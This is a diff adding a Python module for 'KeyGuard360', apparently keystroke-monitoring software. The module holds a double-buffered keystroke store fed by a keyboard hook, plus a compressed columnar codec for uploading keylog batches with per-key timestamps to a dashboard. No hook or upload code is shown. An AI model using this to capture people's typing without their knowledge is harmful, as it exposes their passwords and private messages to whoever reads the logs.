@@ -0,0 +1,181 @@
+"""
+KeyGuard360 Keystroke Buffer and Codec
+Compact array-backed keystroke buffer for the keyboard hook, and the
+columnar compressed encoding used for uploaded keylog items.
+
+Encoded format ("kgc1:" + base64 of a zlib stream), little-endian:
+    u64  base_ms        wall-clock time of the first key (epoch ms)
+    u32  count
+    u16  symbol_count   then per symbol: u16 byte length + UTF-8 bytes
+    u32  codes[count]   Unicode code point, or SYMBOL_BASE + symbol index
+    u32  deltas[count]  ms since the previous key (first is 0)
+
+The dashboard-side decoder lives in src/app/keylog-codec.ts.
+"""
+
+import base64
+import struct
+import threading
+import time
+import zlib
+from array import array
+
+ENCODING_PREFIX = 'kgc1:'
+
+# Codes at or above this value index the batch's symbol table (special keys
+# such as 'Key.space'); everything below is a single character's code point
+SYMBOL_BASE = 0x110000
+
+# Typecode of a 4-byte unsigned array on this platform
+_U32 = 'I' if array('I').itemsize == 4 else 'L'
+
+
+def _u32_array(size: int) -> array:
+    return array(_U32, bytes(4 * size))
+
+
+class KeystrokeBuffer:
+    """Preallocated key code / time offset columns; append is O(1) and allocation-free"""
+
+    def __init__(self, capacity: int):
+        self.capacity = capacity
+        self._codes = _u32_array(capacity)
+        self._offsets = _u32_array(capacity)
+        self._symbols = {}
+        self._count = 0
+        self._base_ms = 0
+        self._base_monotonic = 0.0
+
+    def __len__(self):
+        return self._count
+
+    def append(self, key: str) -> int:
+        """Record one key; returns the number of keys buffered"""
+        now = time.monotonic()
+        if self._count == 0:
+            self._base_monotonic = now
+            self._base_ms = int(time.time() * 1000)
+        elif self._count == self.capacity:
+            # Keep accepting keys if the consumer falls behind
+            self._codes.extend(_u32_array(self.capacity))
+            self._offsets.extend(_u32_array(self.capacity))
+            self.capacity *= 2
+
+        if len(key) == 1:
+            code = ord(key)
+        else:
+            index = self._symbols.get(key)
+            if index is None:
+                index = self._symbols[key] = len(self._symbols)
+            code = SYMBOL_BASE + index
+
+        self._codes[self._count] = code
+        self._offsets[self._count] = int((now - self._base_monotonic) * 1000)
+        self._count += 1
+        return self._count
+
+    def drain(self) -> dict:
+        """Return the buffered batch and reset the buffer for reuse"""
+        batch = {
+            'base_ms': self._base_ms,
+            'codes': self._codes[:self._count],
+            'offsets': self._offsets[:self._count],
+            'symbols': list(self._symbols)
+        }
+        self._symbols = {}
+        self._count = 0
+        return batch
+
+
+class KeystrokeDoubleBuffer:
+    """
+    Two KeystrokeBuffers: the keyboard hook appends to the active one while
+    the flusher swaps it out and drains the other. The hook only ever waits
+    for a pointer swap, never for a drain, encode or upload.
+    """
+
+    def __init__(self, capacity: int):
+        self._active = KeystrokeBuffer(capacity)
+        self._spare = KeystrokeBuffer(capacity)
+        self._swap_lock = threading.Lock()
+        self._drain_lock = threading.Lock()
+
+    def __len__(self):
+        return len(self._active)
+
+    def append(self, key: str) -> int:
+        """Record one key from the hook thread; returns the number of keys buffered"""
+        with self._swap_lock:
+            return self._active.append(key)
+
+    def drain(self):
+        """Swap buffers and return the filled batch, or None if nothing was buffered"""
+        with self._drain_lock:
+            with self._swap_lock:
+                if not len(self._active):
+                    return None
+                full, self._active = self._active, self._spare
+            batch = full.drain()
+            self._spare = full
+            return batch
+
+
+def encode_batch(batch: dict) -> str:
+    """Columnar, zlib-compressed encoding of a drained batch (a string for the 'data' attribute)"""
+    codes = batch['codes']
+    offsets = batch['offsets']
+    count = len(codes)
+
+    deltas = _u32_array(count)
+    previous = 0
+    for i, offset in enumerate(offsets):
+        deltas[i] = offset - previous
+        previous = offset
+
+    parts = [struct.pack('<QIH', batch['base_ms'], count, len(batch['symbols']))]
+    for symbol in batch['symbols']:
+        encoded = symbol.encode('utf-8')
+        parts.append(struct.pack('<H', len(encoded)))
+        parts.append(encoded)
+
+    # array uses native byte order; the format is little-endian
+    if struct.pack('=I', 1) != struct.pack('<I', 1):
+        codes = array(_U32, codes)
+        codes.byteswap()
+        deltas.byteswap()
+    parts.append(codes.tobytes())
+    parts.append(deltas.tobytes())
+
+    compressed = zlib.compress(b''.join(parts), 6)
+    return ENCODING_PREFIX + base64.b64encode(compressed).decode('ascii')
+
+
+def decode_batch(data: str) -> list:
+    """Decode a keylog 'data' attribute into [{'key', 'timestamp_ms'}, ...]"""
+    raw = zlib.decompress(base64.b64decode(data[len(ENCODING_PREFIX):]))
+
+    base_ms, count, symbol_count = struct.unpack_from('<QIH', raw, 0)
+    pos = struct.calcsize('<QIH')
+
+    symbols = []
+    for _ in range(symbol_count):
+        (length,) = struct.unpack_from('<H', raw, pos)
+        pos += 2
+        symbols.append(raw[pos:pos + length].decode('utf-8'))
+        pos += length
+
+    codes = struct.unpack_from(f'<{count}I', raw, pos)
+    deltas = struct.unpack_from(f'<{count}I', raw, pos + 4 * count)
+
+    events = []
+    timestamp = base_ms
+    for code, delta in zip(codes, deltas):
+        timestamp += delta
+        key = symbols[code - SYMBOL_BASE] if code >= SYMBOL_BASE else chr(code)
+        events.append({'key': key, 'timestamp_ms': timestamp})
+    return events
+
+
+def is_encoded(data) -> bool:
+    """True for columnar keylog data, False for the legacy JSON list"""
+    return isinstance(data, str) and data.startswith(ENCODING_PREFIX)